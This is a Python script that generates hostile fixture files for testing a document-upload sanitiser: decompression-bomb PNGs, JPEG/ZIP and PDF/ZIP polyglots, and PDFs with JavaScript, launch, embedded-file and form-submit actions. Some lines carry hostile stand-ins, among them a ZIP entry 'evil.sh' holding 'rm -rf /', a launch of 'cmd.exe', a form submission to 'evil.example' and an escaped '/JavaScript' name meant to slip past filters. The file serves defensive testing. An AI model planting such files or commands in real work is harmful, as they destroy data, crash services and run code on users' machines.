"""Makes the files of this folder, one danger each: run it when one is to be added.

    python -m torana.parts.documents.tests.hostile.make

The files are committed, so that what the tests refuse stays the same when a library changes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pikepdf
from PIL import Image, ImageDraw

if TYPE_CHECKING:
    from collections.abc import Callable

HERE = Path(__file__).parent
GPS, ORIENTATION = 0x8825, 0x0112


def picture(form: str = "JPEG", **more: object) -> bytes:
    """Return a small picture: a red corner at the top left, on white."""
    drawn = Image.new("RGB", (60, 40), "white")
    ImageDraw.Draw(drawn).rectangle((0, 0, 19, 19), fill="red")
    out = io.BytesIO()
    drawn.save(out, form, **more)
    return out.getvalue()


def photo_with_place() -> bytes:
    """Return a phone's photo: turned by a quarter, with its place and its camera."""
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "CanaryCamera"
    exif.get_ifd(GPS).update({1: "S", 2: (1.0, 17.0, 11.0), 3: "E", 4: (36.0, 49.0, 2.0)})
    return picture(exif=exif, comment=b"CanaryComment")


def bomb() -> bytes:
    """Return a PNG of 40,000 by 40,000 pixels in a few kilobytes."""
    return _png(40_000, 40_000, zlib.compress(bytes(200_000)))


def huge_on_paper() -> bytes:
    """Return a PNG whose header claims two thousand million pixels a side, with nothing behind."""
    return _png(2**31 - 1, 2**31 - 1, b"")


def text_bomb() -> bytes:
    """Return a PNG whose comment unpacks to 200 MB."""
    small = picture("PNG")
    packed = zlib.compress(bytes(200_000_000), 9)
    chunk = _chunk(b"zTXt", b"Comment\0\0" + packed)
    return small[:33] + chunk + small[33:]


def picture_with_archive() -> bytes:
    """Return a JPEG that is a ZIP archive as well."""
    return picture() + _archive()


def picture_with_page() -> bytes:
    """Return a JPEG that some browsers would once have read as a page."""
    return picture(comment=b"<html><script>alert(1)</script></html>")


def _png(width: int, height: int, packed: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = _chunk(b"IHDR", head) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def _chunk(kind: bytes, data: bytes) -> bytes:
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.sh", "rm -rf /")
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: Any) -> bytes:
    """Return a PDF of one page, after `change` has been at it."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(300, 400))
    if change is not None:
        change(made)
    out = io.BytesIO()
    made.save(out, **saving)
    return out.getvalue()


def _action(**said: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{name}": value for name, value in said.items()})


def _script() -> pikepdf.Dictionary:
    return _action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _opens_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = _script()


def _named_script(made: pikepdf.Pdf) -> None:
    names = pikepdf.Dictionary(Names=pikepdf.Array(["go", _script()]))
    made.Root.Names = pikepdf.Dictionary(JavaScript=names)


def _page_action(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = pikepdf.Dictionary(O=_action(S=pikepdf.Name.Named, N=pikepdf.Name.Print))


def _link(made: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 300, 400], A=action
    )
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(link)])


def _links_script(made: pikepdf.Pdf) -> None:
    _link(made, _script())


def _launch(made: pikepdf.Pdf) -> None:
    _link(made, _action(S=pikepdf.Name.Launch, F="cmd.exe"))


def _embedded(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = b"MZ"


def _xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def _rich_media(made: pikepdf.Pdf) -> None:
    film = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9]
    )
    made.pages[0].obj.Annots = pikepdf.Array([made.make_indirect(film)])


def _submits(made: pikepdf.Pdf) -> None:
    _link(made, _action(S=pikepdf.Name.SubmitForm, F="https://evil.example"))


def _out_of_reach(made: pikepdf.Pdf) -> None:
    # Held by an object that no page leads to: a later edit could lead there.
    made.Root.PieceInfo = pikepdf.Dictionary(X=made.make_indirect(_script()))


def _many_pages(made: pikepdf.Pdf) -> None:
    for _ in range(100):
        made.add_blank_page(page_size=(300, 400))


def _opens_at_a_place(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def _escaped_script() -> bytes:
    # A name may be written with its letters as numbers; the table of places must still fit.
    plain = pdf(_links_script).replace(b"/JavaScript", b"/Java#53cript")
    return plain.replace(b"/JS (app.alert", b"/J#53 (app.a")


LOCK = pikepdf.Encryption(owner="canary", user="canary")
HALF_LOCK = pikepdf.Encryption(owner="canary", user="")

FILES: dict[str, Callable[[], bytes]] = {
    "photo-with-place.jpg": photo_with_place,
    "bomb.png": bomb,
    "huge-on-paper.png": huge_on_paper,
    "text-bomb.png": text_bomb,
    "picture-and-archive.jpg": picture_with_archive,
    "picture-and-page.jpg": picture_with_page,
    "cut-off.jpg": lambda: picture()[:-200],
    "cut-off.png": lambda: picture("PNG")[:-30],
    "only-a-beginning.jpg": lambda: b"\xff\xd8\xff\xe0",
    "script-at-opening.pdf": lambda: pdf(_opens_script),
    "script-behind-a-link.pdf": lambda: pdf(_links_script),
    "script-by-name.pdf": lambda: pdf(_named_script),
    "script-hidden-in-a-packed-object.pdf": lambda: pdf(
        _out_of_reach, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "action-on-a-page.pdf": lambda: pdf(_page_action),
    "starts-a-program.pdf": lambda: pdf(_launch),
    "holds-a-file.pdf": lambda: pdf(_embedded),
    "xfa-form.pdf": lambda: pdf(_xfa),
    "film.pdf": lambda: pdf(_rich_media),
    "sends-itself.pdf": lambda: pdf(_submits),
    "locked.pdf": lambda: pdf(encryption=LOCK),
    "half-locked.pdf": lambda: pdf(encryption=HALF_LOCK),
    "many-pages.pdf": lambda: pdf(_many_pages),
    "cut-off.pdf": lambda: pdf()[:-60],
    "pdf-and-archive.pdf": lambda: pdf() + _archive() + b"\n%%EOF\n",
    "script-escaped.pdf": _escaped_script,
    "harmless.pdf": lambda: pdf(_opens_at_a_place),
}


def main() -> None:
    """Write each file."""
    for name, make in FILES.items():
        (HERE / name).write_bytes(make())


if __name__ == "__main__":
    main()
